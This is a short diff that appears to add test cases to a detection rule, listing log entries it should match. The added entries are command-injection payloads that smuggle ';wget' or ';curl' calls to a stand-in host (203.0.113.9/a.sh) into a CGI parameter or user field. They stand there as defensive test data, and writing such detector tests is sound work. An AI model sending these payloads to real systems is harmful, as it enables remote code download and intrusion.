@@ -64,6 +64,13 @@ export default defineRule({
       referrer: 'https://www.example.com/cgi-bin/test.cgi?x=;wget%20http://203.0.113.9/a.sh',
     },
     { request: 'GET / HTTP/1.1', user: ';wget http:/203.0.113.9/a.sh' },
+    { request: 'GET / HTTP/1.1', user: 'wget http:/203.0.113.9/a.sh' },
+    ...each(
+      'GET /cgi-bin/test.cgi?x=;{}http://203.0.113.9/a.sh HTTP/1.1',
+      'wget%2B wget, curl%2B curl,',
+    ),
+    'GET /cgi-bin/test.cgi?x=;wget.exe%20http://203.0.113.9/a.sh HTTP/1.1',
+    'GET /cgi-bin/test.cgi?x=;curl.exe%20http://203.0.113.9/a.sh HTTP/1.1',
   ],
   misses: [
     { request: 'GET / HTTP/1.1', agent: 'curl/7.88.1' },
